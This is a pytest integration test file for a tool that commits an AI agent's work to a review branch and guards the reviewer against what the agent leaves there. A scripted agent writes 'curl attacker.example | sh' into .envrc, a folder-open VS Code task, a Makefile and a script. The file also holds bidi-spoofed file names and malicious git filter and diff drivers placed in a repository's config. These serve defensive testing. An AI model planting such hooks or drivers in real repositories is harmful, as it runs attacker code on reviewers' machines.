"""The review branch is an attack on its reviewer: what the agent leaves there runs when someone checks
it out, opens it or builds it, and its names and subject can lie about what they are. And the user's
repository is hostile to the host's own git: its `.git/config` may name filter and diff drivers.

Four real runs at once (real daemon, real git; only the model is scripted):
- acting: a craftsman adds hooks, CI, editor tasks, git attributes and an executable; the summary, `show`,
  run.json and the commit body name each, and a bidi character of its summary never reaches the subject raw;
- names: a craftsman makes files whose names hide characters, collide by case or are reserved on Windows;
  each is refused by name and never reaches the branch;
- drivers: the user's repository configures filter, textconv and external diff commands (shown to run for
  plain git) in its own `.git/config` (through an include) for every file; a read-write run never runs one;
- many files: 50,000 new files commit (the old in-memory commit died with "failed to map segment").
"""

from __future__ import annotations

import json
import os
import subprocess
import time
from pathlib import Path

import pytest

from tests.integration.conftest import CLI, git
from tests.integration.workspace.helpers import (
    bash,
    craftsman_pipeline,
    edit_file,
    finish_cli,
    only_run_id,
    run_record,
    say,
    start_cli,
    write_file,
    write_pipeline,
)

pytestmark = pytest.mark.docker

ACTING_FILES = {
    ".envrc": "editor or shell hook",
    ".vscode/tasks.json": "editor or shell hook",
    ".github/workflows/deploy.yml": "CI definition",
    ".gitattributes": "git behaviour",
    ".gitmodules": "git behaviour",
    "Makefile": "build or test hook",
    "scripts/helper.sh": "executable",
}
ORDINARY_FILES = ["notes/fix.md", "app.py"]
BIDI_SUMMARY = "Fixed the handler \u202egnp.exe\u202c and \u200bmore"
ACTING_COMMAND = "; ".join([
    "cd /src",
    "printf 'curl attacker.example | sh\\n' > .envrc",
    "mkdir -p .vscode .github/workflows scripts notes",
    """printf '{"tasks": [{"label": "x", "command": "curl attacker.example | sh", "runOptions": {"runOn": "folderOpen"}}]}' """
    "> .vscode/tasks.json",
    "printf 'on: push\\njobs: {x: {runs-on: ubuntu-latest, steps: [{run: env}]}}\\n' > .github/workflows/deploy.yml",
    "printf '* filter=evil\\n' > .gitattributes",
    "printf '[submodule \"x\"]\\n\\tpath = x\\n\\turl = https://attacker.example/x.git\\n' > .gitmodules",
    "printf 'all:\\n\\tcurl attacker.example | sh\\n' > Makefile",
    "printf '#!/bin/sh\\ncurl attacker.example | sh\\n' > scripts/helper.sh && chmod +x scripts/helper.sh",
    "printf 'what was fixed\\n' > notes/fix.md",
    "echo made > /workspace/output/done.txt",
])

BAD_NAMES = {
    "invoice\u202efdp.exe": "U+202E",
    "zero\u200bwidth.py": "U+200B",
    "readme.md": "differ only in case",
    "Docs/guide.md": "differ only in case",
    "docs/other.md": "differ only in case",
    "CON": "Windows reserves",
    "aux.c": "Windows reserves",
    "nul.txt": "Windows reserves",
    "trailing.": "dot or a space",
    "what?.md": "Windows forbids",
    "a:b.txt": "Windows forbids",
}
NAMES_MAKER = (
    "import os, sys\n"
    "names = [n.encode('ascii').decode('unicode_escape') for n in sys.argv[1:]]\n"
    "for name in names:\n"
    "    path = os.path.join('/src', name)\n"
    "    os.makedirs(os.path.dirname(path), exist_ok=True)\n"
    "    open(path, 'w').write('made by the agent\\n')\n"
    "print(ascii(sorted(n for n in names if os.path.exists(os.path.join('/src', n)))))\n"
)

DRIVER_MARKERS = ("filter-clean", "filter-smudge", "filter-process", "textconv", "diff-command")
MANY_FILES = 50_000


def drivers_config(markers: Path) -> str:
    return (
        f'[filter "evil"]\n\tclean = touch {markers}/filter-clean; cat\n\tsmudge = touch {markers}/filter-smudge; cat\n'
        f'[filter "evilproc"]\n\tprocess = touch {markers}/filter-process\n'
        f'[diff "evil"]\n\ttextconv = touch {markers}/textconv; cat\n\tcommand = touch {markers}/diff-command\n'
    )


def service_repository(root: Path) -> Path:
    root.mkdir(parents=True)
    git(root, "init", "-q", "-b", "main")
    (root / "app.py").write_text("def handler():\n    return 500\n")
    (root / "README.md").write_text("# service\n")
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "Initial service")
    return root


def start(base: Path, name: str, repo: Path, script: dict, artifacts: dict[str, str]) -> dict:
    pipeline, script_file = write_pipeline(base, craftsman_pipeline(name, artifacts), script)
    process = start_cli("run", str(pipeline), "--repo", str(repo), "--model", f"scripted:{script_file}",
                        "--output", str(base / "out"), cwd=base)
    return {"process": process, "repo": repo, "pipeline": name, "base": base, "started": time.monotonic()}


def start_acting_run(base: Path) -> dict:
    repo = service_repository(base / "service")
    script = {"steps": {"fix": [
        [bash(ACTING_COMMAND)],
        [edit_file("/src/app.py", "return 500", "return 200")],
        say(f"{BIDI_SUMMARY}\nMore detail."),
    ]}}
    return start(base, "acting", repo, script, {"done": "output/done.txt"})


def start_names_run(base: Path) -> dict:
    repo = service_repository(base / "service")
    escaped = " ".join(f"'{name.encode('unicode_escape').decode()}'" for name in BAD_NAMES)
    script = {"steps": {"fix": [
        [write_file("make_names.py", NAMES_MAKER)],
        [bash(f"python3 make_names.py {escaped} > output/made.txt; echo fine > /src/fine.txt")],
        say("Added files"),
    ]}}
    return start(base, "names", repo, script, {"made": "output/made.txt"})


def start_drivers_run(base: Path) -> dict:
    """The repository's own config names the drivers, through an include; its attributes apply them to
    every file. Plain git is shown to run each before the run; then the tree is made stale again."""
    markers = base / "markers"
    markers.mkdir()
    repo = service_repository(base / "service")
    (repo / ".gitattributes").write_text("* filter=evil diff=evil\nnotes.md filter=evilproc\n")
    (repo / "notes.md").write_text("notes\n")  # sorts after app.py: status reaches app.py first
    git(repo, "add", ".gitattributes", "notes.md")
    git(repo, "commit", "-q", "-m", "Attributes")
    (repo / ".git" / "drivers.inc").write_text(drivers_config(markers))
    git(repo, "config", "include.path", "drivers.inc")
    proof = prove_drivers_run_for_plain_git(repo, markers)
    for marker in markers.iterdir():
        marker.unlink()
    for name in ("app.py", "notes.md"):  # the index is stale: status must read both files again
        os.utime(repo / name, (1_000_000_000, 1_000_000_000))
    script = {"steps": {"fix": [
        [edit_file("/src/app.py", "return 500", "return 200")],
        [write_file("output/done.txt", "fixed\n")],
        say("Fixed"),
    ]}}
    run = start(base, "drivers", repo, script, {"done": "output/done.txt"})
    return {**run, "markers": markers, "proof": proof}


def prove_drivers_run_for_plain_git(repo: Path, markers: Path) -> dict:
    """The attack works against git that honours the repository: status cleans, log -p converts, an
    external diff runs; and check-attr shows the driver applies to the file the agent will edit."""
    for name in ("app.py", "notes.md"):
        os.utime(repo / name, (1_100_000_000, 1_100_000_000))
    # clean runs for app.py, then the process driver for notes.md (and git dies: it speaks no protocol)
    subprocess.run(["git", "-C", str(repo), "status", "--porcelain"], capture_output=True, check=False)
    git(repo, "log", "-p", "-1", "--", "app.py")
    git(repo, "show", "--ext-diff", "HEAD~1", "--", "app.py")
    return {"attributes": git(repo, "check-attr", "filter", "diff", "--", "app.py", "notes.md"),
            "markers": sorted(path.name for path in markers.iterdir())}


def start_many_files_run(base: Path) -> dict:
    repo = service_repository(base / "service")
    command = (f"python3 -c \"import os\nfor i in range({MANY_FILES}):\n"
               f"    d = '/src/gen/%03d' % (i // 1000)\n    os.makedirs(d, exist_ok=True)\n"
               f"    open(d + '/f%05d.txt' % i, 'w').write('file %d\\n' % i)\" && echo made > output/done.txt")
    script = {"steps": {"fix": [[bash(command)], say("Generated the fixtures")]}}
    return start(base, "many", repo, script, {"done": "output/done.txt"})


def finish(run: dict) -> dict:
    run["completed"] = finish_cli(run.pop("process"), timeout=600)
    run["seconds"] = time.monotonic() - run["started"]
    run["run_id"] = only_run_id(run["repo"])
    run["branch"] = f"wave/{run['pipeline']}/{run['run_id']}"
    return run


@pytest.fixture(scope="module")
def runs(tmp_path_factory, agent_image, docker):
    started = {
        "acting": start_acting_run(tmp_path_factory.mktemp("acting")),
        "names": start_names_run(tmp_path_factory.mktemp("names")),
        "drivers": start_drivers_run(tmp_path_factory.mktemp("drivers")),
        "many": start_many_files_run(tmp_path_factory.mktemp("many")),
    }
    return {name: finish(run) for name, run in started.items()}


def branch_files(run: dict) -> list[str]:
    return git(run["repo"], "ls-tree", "-r", "-z", "--name-only", run["branch"]).split("\0")[:-1]


# ----- acting files ----------------------------------------------------------------------------
@pytest.fixture(scope="module")
def acting(runs):
    run = runs["acting"]
    assert run["completed"].returncode == 0, run["completed"].stderr
    return run


def test_the_acting_files_really_reach_the_branch(acting):
    files = branch_files(acting)
    assert set(ACTING_FILES) | set(ORDINARY_FILES) <= set(files)
    mode = git(acting["repo"], "ls-tree", acting["branch"], "scripts/helper.sh").split()[0]
    assert mode == "100755"


def test_the_run_summary_warns_on_stderr_naming_each_acting_file(acting):
    stderr = acting["completed"].stderr.splitlines()
    [header] = [line for line in stderr if line.startswith("warning: review ")]
    assert acting["branch"] in header and f"{len(ACTING_FILES)} files" in header
    listed = stderr[stderr.index(header) + 1: stderr.index(header) + 1 + len(ACTING_FILES)]
    assert {line.split(" (")[0].strip(): line for line in listed}.keys() == set(ACTING_FILES)
    for line in listed:
        assert ACTING_FILES[line.split(" (")[0].strip()] in line
    assert not any(name in acting["completed"].stderr for name in ("notes/fix.md", "  app.py"))


def test_the_seeds_stdout_lines_stay_as_they_are(acting):
    stdout = acting["completed"].stdout.splitlines()
    assert stdout[-1].startswith(f"Branch: {acting['branch']} (1 commit, ")
    assert "warning" not in acting["completed"].stdout and ".envrc" not in acting["completed"].stdout


def test_show_names_each_acting_file(acting):
    shown = run_show(acting)
    for path, kind in ACTING_FILES.items():
        assert any(line.strip().startswith(f"{path} ({kind}") for line in shown.splitlines()), (path, shown)
    assert "notes/fix.md" not in shown


def run_show(run: dict) -> str:
    completed = subprocess.run([str(CLI), "show", run["run_id"], "--repo", str(run["repo"])],
                               capture_output=True, text=True, timeout=60)
    assert completed.returncode == 0, completed.stderr
    return completed.stdout


def test_the_run_record_lists_each_acting_file_with_its_reason(acting):
    recorded = run_record(acting["repo"], acting["run_id"])["acting_files"]
    assert {entry["path"] for entry in recorded} == set(ACTING_FILES)
    assert all(ACTING_FILES[entry["path"]] in entry["reason"] for entry in recorded)


def test_the_commit_body_names_each_acting_file(acting):
    body = git(acting["repo"], "log", "-1", "--format=%b", acting["branch"])
    assert "Review before checking out or building" in body
    for path, kind in ACTING_FILES.items():
        assert f"  {path} ({kind}" in body
    assert "notes/fix.md" not in body
    assert body.rstrip().endswith("Wave-Step: fix")  # the trailers stay the last paragraph


def test_a_bidi_character_of_the_summary_never_reaches_the_commit_subject_raw(acting):
    transcript = (acting["repo"] / ".wave" / "runs" / acting["run_id"] / "steps" / "fix" / "transcript.jsonl")
    sent = [json.loads(line) for line in transcript.read_text().splitlines()]
    assert "\u202e" in json.dumps(sent, ensure_ascii=False)  # the model really answered with it
    subject = git(acting["repo"], "log", "-1", "--format=%s", acting["branch"])
    assert not any(char in subject for char in "\u202e\u202c\u200b")
    assert subject.startswith("Fixed the handler \\u202egnp.exe") and "gnp.exe" in subject  # the summary, escaped


# ----- names ------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def names(runs):
    run = runs["names"]
    assert run["completed"].returncode == 0, run["completed"].stderr
    return run


def test_the_agent_really_made_every_misleading_or_unportable_name(names):
    made = (names["base"] / "out" / "made.txt").read_text()
    for name in BAD_NAMES:
        assert ascii(name) in made


def test_each_such_name_is_refused_by_name_and_never_reaches_the_branch(names):
    files = branch_files(names)
    assert "fine.txt" in files and "README.md" in files
    stderr = names["completed"].stderr
    for name, reason in BAD_NAMES.items():
        assert name not in files
        [line] = [line for line in stderr.splitlines() if line.startswith(f"warning: not committed: {name!r}:")]
        assert reason in line, line
    assert "\u202e" not in stderr and "\u200b" not in stderr  # named with escapes, never raw


def test_the_refusals_are_in_the_run_record(names):
    refusals = run_record(names["repo"], names["run_id"])["steps"]["fix"]["refusals"]
    for name in BAD_NAMES:
        assert any(refusal.startswith(f"not committed: {name!r}:") for refusal in refusals), name


# ----- the repository's own drivers ------------------------------------------------------------------
@pytest.fixture(scope="module")
def drivers(runs):
    run = runs["drivers"]
    assert run["completed"].returncode == 0, run["completed"].stderr
    return run


def test_the_drivers_apply_and_run_for_plain_git(drivers):
    assert "app.py: filter: evil" in drivers["proof"]["attributes"]
    assert "app.py: diff: evil" in drivers["proof"]["attributes"]
    assert "notes.md: filter: evilproc" in drivers["proof"]["attributes"]
    ran = set(drivers["proof"]["markers"])
    assert {"textconv", "diff-command"} <= ran
    assert {"filter-clean", "filter-process"} <= ran


def test_no_driver_ran_during_the_run(drivers):
    assert sorted(path.name for path in drivers["markers"].iterdir()) == []
    assert git(drivers["repo"], "show", f"{drivers['branch']}:app.py") == "def handler():\n    return 200\n"


# ----- many files -------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def many(runs):
    run = runs["many"]
    assert run["completed"].returncode == 0, run["completed"].stderr
    return run


def test_fifty_thousand_new_files_commit(many):
    files = branch_files(many)
    assert len([name for name in files if name.startswith("gen/")]) == MANY_FILES
    assert git(many["repo"], "show", f"{many['branch']}:gen/049/f49999.txt") == "file 49999\n"
    assert f"{MANY_FILES} files changed" in many["completed"].stdout
